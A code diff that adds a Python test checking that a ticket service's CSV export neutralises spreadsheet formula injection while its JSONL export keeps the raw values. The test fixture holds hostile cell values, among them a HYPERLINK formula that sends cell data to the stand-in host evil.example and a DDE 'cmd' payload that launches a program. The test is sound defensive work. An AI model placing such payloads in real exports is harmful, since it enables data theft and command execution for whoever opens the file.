@@ -211,6 +211,41 @@ def test_export_streams_reviewed_tickets_as_csv_and_jsonl(client: TestClient[Any
     assert dated.text.strip().count("\n") == 2  # the header and both reviews
 
 
+FORMULAS = {
+    "external_id": "=1+1",
+    "subject": '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+    "body": "+cmd|' /C calc'!A0",
+    "channel": "@SUM(1+1)",
+    "stated_urgency": "\rCR",
+    "customer": {"tier": "-2+3+cmd|x", "customer_id": "\tTAB"},
+}
+
+
+def test_the_csv_export_neutralises_formulas_and_jsonl_keeps_them(
+    client: TestClient[Any],
+) -> None:
+    response = client.post("/v1/predict", json=FORMULAS, headers=PREDICT)
+    assert response.status_code == 200, response.text
+    review(client, response.json()["prediction_id"], action="accept")
+    text = client.get("/v1/reviews/export", headers=REVIEW).text
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    cells = (row["ticket_id"], row["subject"], row["body"], row["channel"], row["tier"])
+    assert cells == (
+        "'=1+1",
+        "'" + FORMULAS["subject"],
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3+cmd|x",
+    )
+    assert (row["customer_id"], row["stated_urgency"]) == ("'\tTAB", "'\rCR")
+    raw = json.loads(client.get("/v1/reviews/export?format=jsonl", headers=REVIEW).text)
+    assert (raw["ticket_id"], raw["subject"], raw["tier"]) == (
+        "=1+1",
+        FORMULAS["subject"],
+        "-2+3+cmd|x",
+    )
+
+
 def test_agreement_reports_rates_and_the_override_matrix(client: TestClient[Any]) -> None:
     ids = predict_all(client)
     review(client, ids["ZD-1"], action="accept")
